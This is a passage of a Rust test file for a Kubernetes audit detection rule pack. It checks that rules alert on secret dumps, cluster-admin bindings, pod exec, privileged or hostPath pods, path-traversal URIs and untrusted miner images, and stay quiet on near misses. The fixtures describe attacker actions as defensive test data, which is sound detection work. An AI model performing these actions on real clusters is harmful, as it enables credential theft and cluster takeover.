//! The built-in rule pack: for every rule, events that must alert and near misses that must not.

use detect::RuleSet;
use event::{ActorKind, Severity};
use serde_json::json;

use crate::common::{alerts_for, audit, check, falco, image, pod_spec};

const SA_APP: &str = "system:serviceaccount:team-a:app";
const SA_KUBE_SYSTEM: &str = "system:serviceaccount:kube-system:coredns";
const RS_CONTROLLER: &str = "system:serviceaccount:kube-system:replicaset-controller";

/// The ids the traffic generator labels scenarios with: a contract.
const CONTRACT_RULE_IDS: &[&str] = &[
    "k8s.secret_read_non_system",
    "k8s.cluster_admin_binding",
    "k8s.wildcard_role",
    "k8s.pod_exec",
    "k8s.privileged_container",
    "k8s.hostpath_volume",
    "k8s.host_namespaces",
    "k8s.networkpolicy_deleted",
    "k8s.psa_labels_weakened",
    "k8s.sa_token_request",
    "k8s.anonymous_access",
    "k8s.untrusted_image",
    "falco.runtime_alert",
];

/// Rules that match only what the configuration puts in their lists (empty in the built-in
/// library): their inline tests can only show them quiet, so the tests below fill the lists.
const LIST_DRIVEN_RULE_IDS: &[&str] = &["k8s.indicator_match"];

#[test]
fn every_rule_file_in_the_rules_folder_is_built_in() {
    let folder = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("rules");
    for entry in std::fs::read_dir(folder).unwrap() {
        let name = entry.unwrap().file_name().into_string().unwrap();
        assert!(
            detect::builtin_files()
                .iter()
                .any(|(file, _)| *file == name),
            "{name} is not in BUILTIN_FILES"
        );
    }
}

#[test]
fn every_builtin_rule_loads_with_metadata() {
    let rules = RuleSet::builtin().unwrap();
    let ids: Vec<&str> = rules.rules().map(|rule| rule.id.as_str()).collect();
    // The contract rules come first, in this order; the rest of the pack follows.
    assert_eq!(&ids[..CONTRACT_RULE_IDS.len()], CONTRACT_RULE_IDS);
    let unique: std::collections::BTreeSet<&str> = ids.iter().copied().collect();
    assert_eq!(unique.len(), ids.len(), "duplicate rule ids");
    for rule in rules.rules() {
        assert!(
            !rule.title.is_empty() && !rule.description.is_empty(),
            "{}",
            rule.id
        );
        assert!(rule.origin.starts_with("builtin:"), "{}", rule.origin);
        assert!(!rule.attack.is_empty(), "{} has no ATT&CK id", rule.id);
        let prefix_ok = match rule.source {
            event::Source::Falco => rule.id.starts_with("falco."),
            event::Source::K8sAudit => rule.id.starts_with("k8s.") || rule.id.starts_with("corr."),
        };
        assert!(prefix_ok, "{} does not follow the id scheme", rule.id);
    }
}

#[test]
fn every_builtin_rule_has_passing_inline_tests() {
    let rules = RuleSet::builtin().unwrap();
    assert!(rules.len() >= 50, "only {} built-in rules", rules.len());
    let outcomes = detect::run_tests(&rules);
    let failed: Vec<String> = outcomes
        .iter()
        .filter(|outcome| !outcome.passed())
        .map(|outcome| {
            format!(
                "{} / {}: expected {}, got {:?} {}",
                outcome.rule_id,
                outcome.name,
                outcome.expected,
                outcome.got,
                outcome.error.as_deref().unwrap_or("")
            )
        })
        .collect();
    assert!(
        failed.is_empty(),
        "failing inline tests:\n{}",
        failed.join("\n")
    );
    for rule in rules.rules() {
        let mine: Vec<_> = outcomes
            .iter()
            .filter(|outcome| outcome.rule_id == rule.id)
            .collect();
        assert!(
            mine.iter().any(|outcome| outcome.expected > 0)
                || LIST_DRIVEN_RULE_IDS.contains(&rule.id.as_str()),
            "{} has no inline test that must alert",
            rule.id
        );
        assert!(
            mine.iter().any(|outcome| outcome.expected == 0),
            "{} has no inline test that must not alert",
            rule.id
        );
    }
    // The linter agrees, file by file: no errors and no rule without inline tests.
    for (name, text) in detect::builtin_files() {
        let problems: Vec<_> = detect::lint(text, name)
            .into_iter()
            .filter(|finding| {
                let list_driven = finding
                    .rule_id
                    .as_deref()
                    .is_some_and(|id| LIST_DRIVEN_RULE_IDS.contains(&id));
                finding.severity == detect::LintSeverity::Error
                    || (finding.message.contains("no inline test")
                        && !(list_driven && finding.message.contains("must alert")))
            })
            .collect();
        assert!(problems.is_empty(), "{name}: {problems:?}");
    }
}

#[test]
fn builtin_rule_files_lint_without_errors() {
    for (name, text) in detect::builtin_files() {
        let errors: Vec<_> = detect::lint(text, name)
            .into_iter()
            .filter(|finding| finding.severity == detect::LintSeverity::Error)
            .collect();
        assert!(errors.is_empty(), "{name}: {errors:?}");
    }
}

#[test]
fn secret_read_non_system() {
    let rule = "k8s.secret_read_non_system";
    check(audit("list", "secrets"), &[rule]);
    check(audit("get", "secrets").name("db-password"), &[rule]);
    // A workload's token reading another namespace's secrets; its own namespace's are its own.
    check(
        audit("list", "secrets")
            .user(SA_APP, ActorKind::Serviceaccount)
            .namespace(Some("payments")),
        &[rule, "k8s.sa_reads_secrets_in_other_namespace"],
    );
    check(
        audit("list", "secrets")
            .user(SA_APP, ActorKind::Serviceaccount)
            .namespace(Some("team-a")),
        &[],
    );
    check(audit("watch", "secrets").namespace(None), &[rule]);
    // A cluster-wide list is also a credential dump.
    check(
        audit("list", "secrets")
            .namespace(None)
            .uri("/api/v1/secrets?limit=500"),
        &[rule, "k8s.secret_cluster_wide_list"],
    );
    // Near misses: system identities, a denied request, a configmap, a write.
    check(
        audit("list", "secrets").user(SA_KUBE_SYSTEM, ActorKind::Serviceaccount),
        &[],
    );
    check(
        audit("get", "secrets").user("system:node:worker-1", ActorKind::Node),
        &[],
    );
    check(
        audit("get", "secrets").user("system:kube-controller-manager", ActorKind::System),
        &[],
    );
    check(audit("list", "secrets").denied(), &[]);
    check(audit("get", "configmaps"), &[]);
    check(audit("create", "secrets"), &[]);
    // A watch is logged at ResponseStarted and ResponseComplete: one alert, at the end.
    check(audit("watch", "secrets").stage("ResponseStarted"), &[]);
}

fn binding_body(role: &str, subjects: serde_json::Value) -> serde_json::Value {
    json!({"kind": "Event", "requestObject": {"kind": "ClusterRoleBinding", "roleRef": {"kind": "ClusterRole", "name": role}, "subjects": subjects}})
}

#[test]
fn cluster_admin_binding() {
    let rule = "k8s.cluster_admin_binding";
    let to_user = binding_body(
        "cluster-admin",
        json!([{"kind": "User", "name": "mallory"}]),
    );
    check(
        audit("create", "clusterrolebindings")
            .name("pwn")
            .raw(to_user.clone()),
        &[rule],
    );
    let masters = binding_body(
        "view",
        json!([{"kind": "User", "name": "x"}, {"kind": "Group", "name": "system:masters"}]),
    );
    check(
        audit("create", "rolebindings").name("pwn").raw(masters),
        &[rule],
    );
    let patched = json!({"responseObject": {"roleRef": {"name": "cluster-admin"}}, "requestObject": {"subjects": []}});
    check(audit("patch", "clusterrolebindings").raw(patched), &[rule]);
    // Near misses: a harmless role, a denied attempt, the API server's bootstrap, a read.
    check(
        audit("create", "clusterrolebindings").raw(binding_body(
            "view",
            json!([{"kind": "User", "name": "bob"}]),
        )),
        &[],
    );
    check(
        audit("create", "clusterrolebindings")
            .raw(to_user.clone())
            .denied(),
        &[],
    );
    check(
        audit("create", "clusterrolebindings")
            .raw(to_user.clone())
            .user("system:apiserver", ActorKind::System),
        &[],
    );
    check(
        audit("get", "clusterrolebindings")
            .raw(json!({"responseObject": {"roleRef": {"name": "cluster-admin"}}})),
        &[],
    );
    // Metadata level: no body, nothing to judge.
    check(audit("create", "clusterrolebindings"), &[]);

    let alert = alerts_for(
        &audit("create", "clusterrolebindings")
            .name("pwn")
            .raw(to_user)
            .build(),
    )
    .remove(0);
    assert_eq!(
        alert.fields["raw.requestObject.roleRef.name"],
        json!("cluster-admin")
    );
    assert_eq!(
        alert.fields["raw.requestObject.subjects.name"],
        json!(["mallory"])
    );
    assert_eq!(
        alert.summary,
        "alice@example.com ran create on clusterrolebindings pwn binding role cluster-admin to mallory"
    );
}

#[test]
fn wildcard_role() {
    let rule = "k8s.wildcard_role";
    let body = |verbs: serde_json::Value, resources: serde_json::Value| json!({"requestObject": {"rules": [{"apiGroups": [""], "resources": ["pods"], "verbs": ["get"]}, {"apiGroups": [""], "resources": resources, "verbs": verbs}]}});
    check(
        audit("create", "clusterroles").raw(body(json!(["*"]), json!(["pods"]))),
        &[rule],
    );
    check(
        audit("update", "roles").raw(body(json!(["get"]), json!(["*"]))),
        &[rule],
    );
    // Near misses: no wildcard, a wildcard only inside a name, aggregation and bootstrap, denied.
    check(
        audit("create", "clusterroles").raw(body(json!(["get", "list"]), json!(["secrets"]))),
        &[],
    );
    // A subresource wildcard is not `*`: `pods/*` (exec, attach, ephemeral containers) is the
    // sensitive-permissions rule's, which reads bodies at Request level only.
    check(
        audit("create", "clusterroles").raw(body(json!(["get"]), json!(["pods/*"]))),
        &[],
    );
    check(
        audit("create", "clusterroles")
            .level("Request")
            .raw(body(json!(["get"]), json!(["pods/*"]))),
        &["k8s.role_sensitive_permissions"],
    );
    let wildcard = body(json!(["*"]), json!(["*"]));
    check(
        audit("update", "clusterroles")
            .raw(wildcard.clone())
            .user("system:kube-controller-manager", ActorKind::System),
        &[],
    );
    check(
        audit("update", "clusterroles").raw(wildcard.clone()).user(
            "system:serviceaccount:kube-system:clusterrole-aggregation-controller",
            ActorKind::Serviceaccount,
        ),
        &[],
    );
    check(
        audit("create", "clusterroles")
            .raw(wildcard.clone())
            .user("system:apiserver", ActorKind::System),
        &[],
    );
    check(audit("create", "clusterroles").raw(wildcard).denied(), &[]);

    // A JSON patch carries operations, not the role: the added value is read from them, and
    // at RequestResponse level the stored role decides.
    let json_patch =
        json!({"requestObject": [{"op": "add", "path": "/rules/0/verbs/-", "value": "*"}]});
    check(
        audit("patch", "roles")
            .level("Request")
            .raw(json_patch.clone()),
        &[rule],
    );
    check(
        audit("patch", "roles").level("Request").raw(
            json!({"requestObject": [{"op": "add", "path": "/rules/0/verbs/-", "value": "get"}]}),
        ),
        &[],
    );
    let stored = json!({
        "requestObject": [{"op": "copy", "from": "/rules/0/verbs", "path": "/rules/1/verbs"}],
        "responseObject": {"rules": [{"resources": ["pods"], "verbs": ["*"]}, {"resources": ["nodes"], "verbs": ["*"]}]}
    });
    check(
        audit("patch", "clusterroles")
            .level("RequestResponse")
            .raw(stored),
        &[rule],
    );
    check(
        audit("patch", "roles")
            .level("Request")
            .raw(json_patch)
            .denied(),
        &[],
    );
}

#[test]
fn role_subresource_wildcards_are_sensitive() {
    let rule = "k8s.role_sensitive_permissions";
    let role = |resources: serde_json::Value| {
        audit("create", "roles")
            .api_group("rbac.authorization.k8s.io")
            .level("Request")
            .raw(json!({"requestObject": {"rules": [{"apiGroups": [""], "resources": resources, "verbs": ["get"]}]}}))
    };
    for resources in [
        json!(["pods/*"]),
        json!(["nodes/*"]),
        json!(["serviceaccounts/*"]),
        json!(["*/exec"]),
        json!(["pods", "pods/exec"]),
    ] {
        check(role(resources), &[rule]);
    }
    // Subresources that run nothing and mint nothing.
    check(
        role(json!(["pods/log", "pods/status", "deployments/scale"])),
        &[],
    );
    // A JSON patch appending pods/* to a read-only role.
    check(
        audit("patch", "roles").level("Request").raw(
            json!({"requestObject": [{"op": "add", "path": "/rules/0/resources/-", "value": "pods/*"}]}),
        ),
        &[rule],
    );
}

#[test]
fn pod_exec() {
    let rule = "k8s.pod_exec";
    let exec = || {
        audit("create", "pods")
            .subresource("exec")
            .name("web-0")
            .exec(&["sh", "-c", "id"])
    };
    check(exec().stage("ResponseStarted").code(101), &[rule]);
    // WebSocket clients log exec as get.
    check(
        audit("get", "pods")
            .subresource("exec")
            .stage("ResponseStarted")
            .code(101),
        &[rule],
    );
    check(
        audit("create", "pods")
            .subresource("attach")
            .stage("ResponseStarted")
            .code(101),
        &[rule],
    );
    // A session that never started (e.g. container not found) has only ResponseComplete.
    check(exec().code(404), &[rule]);
    check(
        exec()
            .user(SA_KUBE_SYSTEM, ActorKind::Serviceaccount)
            .stage("ResponseStarted"),
        &[rule],
    );
    // A session logged only at ResponseComplete (policies without ResponseStarted). The
    // ResponseComplete of a session seen at ResponseStarted is left out by the detector
    // (one alert per auditID: tests/it/stateful.rs).
    check(exec().code(101), &[rule]);
    // Near misses: denied, portforward (its own rule), a pod get.
    check(exec().denied(), &[]);
    check(
        audit("create", "pods")
            .subresource("portforward")
            .stage("ResponseStarted"),
        &["k8s.port_forward"],
    );
    check(audit("get", "pods").name("web-0"), &[]);

    let alert = alerts_for(&exec().stage("ResponseStarted").code(101).build()).remove(0);
    assert_eq!(
        alert.summary,
        "alice@example.com ran exec in pod team-a/web-0: sh -c id"
    );
    assert_eq!(alert.severity, Severity::High);
    assert_eq!(alert.attack, ["T1609"]);
    assert_eq!(alert.fields["exec_command"], json!(["sh", "-c", "id"]));
}

#[test]
fn privileged_container() {
    let rule = "k8s.privileged_container";
    let privileged_pod = || {
        pod_spec(
            "Pod",
            &[
                ("app", "nginx:1.27", Some(false)),
                ("debug", "busybox", Some(true)),
            ],
        )
    };
    check(audit("create", "pods").pod(privileged_pod()), &[rule]);
    check(
        audit("patch", "daemonsets")
            .pod(pod_spec("DaemonSet", &[("agent", "agent:1", Some(true))])),
        &[rule],
    );
    let with_init = pod_spec("Deployment", &[("app", "nginx", None)]).clone();
    let with_init = {
        let mut spec = with_init;
        let mut init = spec.containers[0].clone();
        init.name = "setup".to_owned();
        init.kind = Some(event::ContainerKind::Init);
        init.privileged = Some(true);
        spec.containers.push(init);
        spec
    };
    check(audit("create", "deployments").pod(with_init), &[rule]);
    // kubectl debug: an ephemeral container is also reported as such.
    check(
        audit("update", "pods")
            .subresource("ephemeralcontainers")
            .pod(pod_spec("Pod", &[("dbg", "busybox", Some(true))])),
        &[rule, "k8s.ephemeral_container_added"],
    );
    // A pod a controller creates is the only sign of a workload written before kubetrail
    // started (the detector then withholds the other pods of its owner: inline tests).
    check(
        audit("create", "pods")
            .pod(privileged_pod())
            .user(RS_CONTROLLER, ActorKind::Serviceaccount),
        &[rule],
    );
    check(
        audit("create", "pods")
            .pod(privileged_pod())
            .user("system:kube-controller-manager", ActorKind::System),
        &[rule],
    );
    // Near misses: controller-made pods in system namespaces, mirror pods, denied,
    // unprivileged, status updates, reads.
    check(
        audit("create", "pods")
            .namespace(Some("kube-system"))
            .pod(privileged_pod())
            .user(RS_CONTROLLER, ActorKind::Serviceaccount),
        &[],
    );
    check(
        audit("create", "pods")
            .pod(privileged_pod())
            .user("system:node:worker-1", ActorKind::Node),
        &[],
    );
    check(audit("create", "pods").pod(privileged_pod()).denied(), &[]);
    check(
        audit("create", "pods").pod(pod_spec("Pod", &[("app", "nginx", Some(false))])),
        &[],
    );
    check(
        audit("patch", "pods")
            .subresource("status")
            .pod(privileged_pod()),
        &[],
    );
    check(audit("get", "pods").pod(privileged_pod()), &[]);

    let alert = alerts_for(
        &audit("create", "pods")
            .name("p")
            .pod(privileged_pod())
            .build(),
    )
    .remove(0);
    assert_eq!(alert.severity, Severity::Critical);
    assert_eq!(
        alert.fields["pod_specs.containers.privileged"],
        json!([false, true])
    );
    assert_eq!(
        alert.fields["pod_specs.containers.image"],
        json!(["nginx:1.27", "busybox"])
    );
}

#[test]
fn hostpath_volume() {
    let rule = "k8s.hostpath_volume";
    let pod = || pod_spec("Pod", &[("app", "nginx", None)]);
    // Sensitive paths also raise the sensitive-path rule; an ordinary one only this rule.
    check(
        audit("create", "pods")
            .pod(pod())
            .volume("/var/run/docker.sock"),
        &[rule, "k8s.sensitive_hostpath"],
    );
    check(
        audit("create", "statefulsets")
            .pod(pod_spec("StatefulSet", &[("db", "postgres", None)]))
            .volume("/"),
        &[rule, "k8s.sensitive_hostpath"],
    );
    check(
        audit("create", "daemonsets")
            .pod(pod_spec("DaemonSet", &[("logs", "fluent-bit", None)]))
            .volume("/var/log"),
        // A person creating a DaemonSet is also reported as such (low severity).
        &[rule, "k8s.daemonset_created_by_person"],
    );
    // A controller's pod: only the sensitive-path rule looks at those.
    check(
        audit("create", "pods")
            .pod(pod())
            .volume("/etc")
            .user(RS_CONTROLLER, ActorKind::Serviceaccount),
        &["k8s.sensitive_hostpath"],
    );
    check(
        audit("create", "pods")
            .pod(pod())
            .volume("/var/log")
            .user(RS_CONTROLLER, ActorKind::Serviceaccount),
        &[],
    );
    check(
        audit("create", "pods").pod(pod()).volume("/etc").denied(),
        &[],
    );
    check(audit("create", "pods").pod(pod()), &[]);
}

#[test]
fn host_namespaces() {
    let rule = "k8s.host_namespaces";
    let pod = || pod_spec("Pod", &[("app", "nginx", None)]);
    check(
        audit("create", "pods")
            .pod(pod())
            .edit_pod(|spec| spec.host_network = true),
        &[rule],
    );
    check(
        audit("create", "pods")
            .pod(pod())
            .edit_pod(|spec| spec.host_pid = true),
        &[rule],
    );
    check(
        audit("create", "cronjobs")
            .pod(pod_spec("CronJob", &[("j", "nginx", None)]))
            .edit_pod(|spec| spec.host_ipc = true),
        // A person creating a CronJob is also reported as such (low severity).
        &[rule, "k8s.cronjob_created_by_person"],
    );
    check(
        audit("create", "pods")
            .pod(pod())
            .edit_pod(|spec| spec.host_network = true)
            .user(
                "system:serviceaccount:kube-system:daemon-set-controller",
                ActorKind::Serviceaccount,
            ),
        &[rule],
    );
    check(
        audit("create", "pods")
            .namespace(Some("kube-system"))
            .pod(pod())
            .edit_pod(|spec| spec.host_network = true)
            .user(
                "system:serviceaccount:kube-system:daemon-set-controller",
                ActorKind::Serviceaccount,
            ),
        &[],
    );
    check(
        audit("create", "pods")
            .pod(pod())
            .edit_pod(|spec| spec.host_pid = true)
            .denied(),
        &[],
    );
    check(audit("create", "pods").pod(pod()), &[]);

    let alert = alerts_for(
        &audit("create", "pods")
            .name("p")
            .pod(pod())
            .edit_pod(|spec| spec.host_pid = true)
            .build(),
    )
    .remove(0);
    assert_eq!(
        alert.summary,
        "alice@example.com ran create on pods team-a/p with hostNetwork false, hostPID true, hostIPC false"
    );
}

#[test]
fn networkpolicy_deleted() {
    let rule = "k8s.networkpolicy_deleted";
    let delete = |verb: &str| {
        audit(verb, "networkpolicies")
            .api_group("networking.k8s.io")
            .name("deny-all")
    };
    // `deny-all` is a default deny: deleting it by name also raises the default-deny rule.
    let default_deny = "k8s.default_deny_networkpolicy_removed";
    check(delete("delete"), &[rule, default_deny]);
    check(delete("deletecollection"), &[rule]);
    check(
        delete("delete").user(SA_APP, ActorKind::Serviceaccount),
        &[rule, default_deny],
    );
    check(
        audit("delete", "networkpolicies")
            .api_group("networking.k8s.io")
            .name("allow-frontend"),
        &[rule],
    );
    check(
        delete("delete").user(
            "system:serviceaccount:kube-system:namespace-controller",
            ActorKind::Serviceaccount,
        ),
        &[],
    );
    check(delete("delete").denied(), &[]);
    check(delete("create"), &[]);
    // Same resource name, other API group (a CRD of a CNI): the CNI policy rule's business.
    check(
        audit("delete", "networkpolicies").api_group("crd.projectcalico.org"),
        &["k8s.cni_network_policy_deleted"],
    );
}

#[test]
fn psa_labels_weakened() {
    let rule = "k8s.psa_labels_weakened";
    let labels = |value: serde_json::Value| json!({"requestObject": {"metadata": {"labels": {"pod-security.kubernetes.io/enforce": value, "team": "a"}}}});
    let namespace = || audit("patch", "namespaces").namespace(None).name("team-a");
    check(namespace().raw(labels(json!("privileged"))), &[rule]);
    check(namespace().raw(labels(json!(null))), &[rule]);
    check(
        audit("update", "namespaces")
            .name("team-a")
            .raw(labels(json!("privileged"))),
        &[rule],
    );
    check(namespace().raw(labels(json!("restricted"))), &[]);
    check(
        namespace().raw(json!({"requestObject": {"metadata": {"labels": {"team": null}}}})),
        &[],
    );
    check(namespace().raw(labels(json!("privileged"))).denied(), &[]);
    check(
        audit("patch", "namespaces")
            .subresource("status")
            .raw(labels(json!(null))),
        &[],
    );

    let alert = alerts_for(&namespace().raw(labels(json!(null))).build()).remove(0);
    assert_eq!(
        alert.summary,
        "alice@example.com set pod-security enforce to null on namespace team-a"
    );
    assert_eq!(
        alert.fields[r#"raw.requestObject.metadata.labels["pod-security.kubernetes.io/enforce"]"#],
        json!(null)
    );
}

#[test]
fn sa_token_request() {
    let rule = "k8s.sa_token_request";
    let token = || {
        audit("create", "serviceaccounts")
            .subresource("token")
            .name("default")
    };
    check(token(), &[rule]);
    // The kubelet requests tokens for every pod it runs.
    check(token().user("system:node:worker-1", ActorKind::Node), &[]);
    check(token().user(SA_APP, ActorKind::Serviceaccount), &[]);
    check(token().denied(), &[]);
    check(audit("create", "serviceaccounts").name("default"), &[]);
}

#[test]
fn anonymous_access() {
    let rule = "k8s.anonymous_access";
    let anonymous = |uri: &str| {
        audit("get", "pods")
            .user("system:anonymous", ActorKind::Anonymous)
            .groups(&["system:unauthenticated"])
            .uri(uri)
    };
    check(anonymous("/api/v1/namespaces/team-a/pods"), &[rule]);
    check(anonymous("/healthzz"), &[rule]);
    check(
        audit("list", "nodes")
            .groups(&["system:unauthenticated"])
            .user("anonymous-ish", ActorKind::Anonymous),
        &[rule],
    );
    // A dot segment or an escape leaves the public paths.
    check(anonymous("/healthz/../api/v1/secrets"), &[rule]);
    check(anonymous("/version/%2e%2e/api/v1/secrets"), &[rule]);
    check(anonymous("/openid/v1/jwks/keys"), &[rule]);
    for public in [
        "/healthz",
        "/livez?verbose",
        "/readyz/ping",
        "/readyz/",
        "/healthz/poststarthook/start-apiextensions-controllers",
        "/version",
        "/version/?timeout=32s",
        "/.well-known/openid-configuration",
        "/openid/v1/jwks",
    ] {
        check(anonymous(public), &[]);
    }
    check(anonymous("/api/v1/namespaces/team-a/pods").denied(), &[]);
    check(audit("get", "pods"), &[]);
}

#[test]
fn untrusted_image() {
    let rule = "k8s.untrusted_image";
    let pod = || {
        audit("create", "pods").pod(pod_spec(
            "Pod",
            &[("app", "evil.example.com/miner:latest", None)],
        ))
    };
    // `latest` and a missing tag are also mutable tags (their own rule).
    let mutable = "k8s.image_mutable_tag";
    check(
        pod().image(image(
            "evil.example.com/miner:latest",
            "evil.example.com",
            "miner",
            Some("latest"),
            None,
        )),
        &[rule, mutable],
    );
    // One trusted image and one untrusted: the untrusted one counts.
    check(
        pod()
            .image(image(
                "nginx:1.27",
                "docker.io",
                "library/nginx",
                Some("1.27"),
                None,
            ))
            .image(image(
                "10.0.0.5:5000/tool",
                "10.0.0.5:5000",
                "tool",
                None,
                None,
            )),
        &[rule, mutable],
    );
    // Near misses: pinned by digest (a low-severity rule of its own), trusted registry,
    // controller-made, denied.
    check(
        pod().image(image(
            "evil.example.com/miner@sha256:ab",
            "evil.example.com",
            "miner",
            None,
            Some("sha256:ab"),
        )),
        &["k8s.untrusted_registry_pinned"],
    );
    check(
        pod().image(image(
            "ghcr.io/org/app:v1",
            "ghcr.io",
            "org/app",
            Some("v1"),
            None,
        )),
        &[],
    );
    // The digest and the registry must belong to the same image.
    check(
        pod()
            .image(image(
                "ghcr.io/org/app@sha256:cd",
                "ghcr.io",
                "org/app",
                None,
                Some("sha256:cd"),
            ))
            .image(image(
                "quay.io/org/b:v1",
                "quay.io",
                "org/b",
                Some("v1"),
                None,
            )),
        &[],
    );
    let untrusted = || {
        image(
            "evil.example.com/miner:latest",
            "evil.example.com",
            "miner",
            Some("latest"),
            None,
        )
    };
    check(
        pod()
            .image(untrusted())
            .user(RS_CONTROLLER, ActorKind::Serviceaccount),
        &[],
    );
    check(pod().image(untrusted()).denied(), &[]);
}

/// The severity of `rule`'s one alert for `event`.
#[track_caller]
fn severity_of(rule: &str, event: impl Into<event::Event>) -> Severity {
    let alerts: Vec<_> = alerts_for(&event.into())
        .into_iter()
        .filter(|alert| alert.rule_id == rule)
        .collect();
    assert_eq!(alerts.len(), 1, "{rule}");
    alerts[0].severity
}

#[test]
fn csr_created_non_node() {
    let rule = "k8s.csr_created_non_node";
    let csr = |signer: &str| {
        audit("create", "certificatesigningrequests")
            .namespace(None)
            .api_group("certificates.k8s.io")
            .code(201)
            .level("Request")
            .raw(json!({"requestObject": {"spec": {"signerName": signer, "usages": ["client auth"]}}}))
    };
    // API client certificates are high; other signers, or no body to read, medium.
    check(csr("kubernetes.io/kube-apiserver-client"), &[rule]);
    assert_eq!(
        severity_of(rule, csr("kubernetes.io/kube-apiserver-client")),
        Severity::High
    );
    assert_eq!(
        severity_of(rule, csr("kubernetes.io/kube-apiserver-client-kubelet")),
        Severity::High
    );
    assert_eq!(
        severity_of(rule, csr("kubernetes.io/kubelet-serving")),
        Severity::Medium
    );
    assert_eq!(
        severity_of(
            rule,
            audit("create", "certificatesigningrequests").namespace(None)
        ),
        Severity::Medium
    );
    // Near misses: a kubelet, a bootstrap token, a kube-system component, denied, a dry run.
    check(
        csr("kubernetes.io/kubelet-serving").user("system:node:worker-1", ActorKind::Node),
        &[],
    );
    check(
        csr("kubernetes.io/kube-apiserver-client-kubelet")
            .user("system:bootstrap:abcdef", ActorKind::System)
            .groups(&["system:bootstrappers", "system:authenticated"]),
        &[],
    );
    check(
        csr("kubernetes.io/kube-apiserver-client").user(SA_KUBE_SYSTEM, ActorKind::Serviceaccount),
        &[],
    );
    check(csr("kubernetes.io/kube-apiserver-client").denied(), &[]);
    check(
        csr("kubernetes.io/kube-apiserver-client")
            .uri("/apis/certificates.k8s.io/v1/certificatesigningrequests?dryRun=All"),
        &[],
    );
}

#[test]
fn admission_webhook_modified() {
    let rule = "k8s.admission_webhook_modified";
    let webhook = |verb: &str, resource: &str| {
        audit(verb, resource)
            .namespace(None)
            .api_group("admissionregistration.k8s.io")
            .name("hook")
    };
    // A person installing a mesh or policy engine registers webhooks: medium; a workload's
    // token doing it: high.
    assert_eq!(
        severity_of(
            rule,
            webhook("create", "mutatingwebhookconfigurations").code(201)
        ),
        Severity::Medium
    );
    assert_eq!(
        severity_of(
            rule,
            webhook("patch", "validatingwebhookconfigurations").user(
                "system:serviceaccount:shop:frontend",
                event::ActorKind::Serviceaccount
            )
        ),
        Severity::High
    );
    // A person writing a fail-open webhook raises both rules.
    let ignore = json!({"requestObject": {"webhooks": [{"name": "w", "failurePolicy": "Ignore"}]}});
    check(
        webhook("update", "validatingwebhookconfigurations")
            .level("Request")
            .raw(ignore),
        &[rule, "k8s.admission_webhook_fail_open"],
    );
    // Near misses: CA bundle injection, GitOps, a kube-system controller, denied, deletion.
    check(
        webhook("patch", "mutatingwebhookconfigurations").user(
            "system:serviceaccount:cert-manager:cert-manager-cainjector",
            ActorKind::Serviceaccount,
        ),
        &[],
    );
    check(
        webhook("create", "validatingwebhookconfigurations").user(
            "system:serviceaccount:argocd:argocd-application-controller",
            ActorKind::Serviceaccount,
        ),
        &[],
    );
    check(
        webhook("update", "mutatingwebhookconfigurations")
            .user(SA_KUBE_SYSTEM, ActorKind::Serviceaccount),
        &[],
    );
    check(
        webhook("patch", "mutatingwebhookconfigurations").denied(),
        &[],
    );
    check(
        webhook("delete", "mutatingwebhookconfigurations"),
        &["k8s.admission_webhook_deleted"],
    );
}

#[test]
fn role_workload_write() {
    let rule = "k8s.role_workload_write";
    let role = |resource: &str, rules: serde_json::Value| {
        audit("create", resource)
            .api_group("rbac.authorization.k8s.io")
            .level("Request")
            .raw(json!({"requestObject": {"rules": rules}}))
    };
    let pods_create = json!([{"apiGroups": [""], "resources": ["pods"], "verbs": ["create"]}]);
    // Cluster-wide: low; one namespace: info (an inventory: operator charts write these).
    check(role("clusterroles", pods_create.clone()), &[rule]);
    assert_eq!(
        severity_of(rule, role("clusterroles", pods_create.clone())),
        Severity::Low
    );
    assert_eq!(
        severity_of(rule, role("roles", pods_create.clone())),
        Severity::Info
    );
    // Exec is the sensitive-permissions rule's; both fire when both are granted.
    check(
        role(
            "roles",
            json!([{"apiGroups": [""], "resources": ["pods/exec"], "verbs": ["create"]}, {"apiGroups": ["batch"], "resources": ["cronjobs"], "verbs": ["patch"]}]),
        ),
        &[rule, "k8s.role_sensitive_permissions"],
    );
    // Near misses: wildcards (their own rule), read-only, Metadata level, bootstrap, denied.
    check(
        role(
            "clusterroles",
            json!([{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]),
        ),
        &["k8s.wildcard_role"],
    );
    check(
        role(
            "roles",
            json!([{"apiGroups": ["apps"], "resources": ["deployments"], "verbs": ["get", "list"]}]),
        ),
        &[],
    );
    check(role("roles", pods_create.clone()).level("Metadata"), &[]);
    check(
        role("clusterroles", pods_create.clone()).user("system:apiserver", ActorKind::System),
        &[],
    );
    check(role("clusterroles", pods_create).denied(), &[]);
}

#[test]
fn persistence_by_people() {
    // A service account in kube-system, a CronJob and a DaemonSet, each created by a person.
    check(
        audit("create", "serviceaccounts")
            .namespace(Some("kube-system"))
            .code(201),
        &["k8s.sa_created_in_system_namespace"],
    );
    check(
        audit("create", "cronjobs").api_group("batch").code(201),
        &["k8s.cronjob_created_by_person"],
    );
    check(
        audit("create", "daemonsets").api_group("apps").code(201),
        &["k8s.daemonset_created_by_person"],
    );
    // Server-side apply creates by patch, answered 201; a 200 patch is an update.
    check(
        audit("patch", "daemonsets")
            .api_group("apps")
            .name("agent")
            .code(201),
        &["k8s.daemonset_created_by_person"],
    );
    check(
        audit("patch", "daemonsets").api_group("apps").name("agent"),
        &[],
    );
    // Near misses: a controller, GitOps, an app namespace, an existing object, a dry run.
    check(
        audit("create", "serviceaccounts")
            .namespace(Some("kube-system"))
            .user("system:kube-controller-manager", ActorKind::System),
        &[],
    );
    check(
        audit("create", "cronjobs").user(
            "system:serviceaccount:flux-system:kustomize-controller",
            ActorKind::Serviceaccount,
        ),
        &[],
    );
    check(audit("create", "serviceaccounts"), &[]);
    check(
        audit("create", "serviceaccounts")
            .namespace(Some("kube-public"))
            .code(409),
        &[],
    );
    check(
        audit("create", "daemonsets").uri("/apis/apps/v1/namespaces/team-a/daemonsets?dryRun=All"),
        &[],
    );
}

#[test]
fn falco_runtime_alert() {
    let rule = "falco.runtime_alert";
    for (priority, severity) in [
        ("Emergency", Severity::Critical),
        ("Critical", Severity::Critical),
        ("Error", Severity::High),
        ("Warning", Severity::Medium),
        ("WARNING", Severity::Medium),
    ] {
        let alerts = alerts_for(&falco("Terminal shell in container", priority).build());
        assert_eq!(alerts.len(), 1, "{priority}");
        assert_eq!(alerts[0].rule_id, rule);
        assert_eq!(alerts[0].severity, severity, "{priority}");
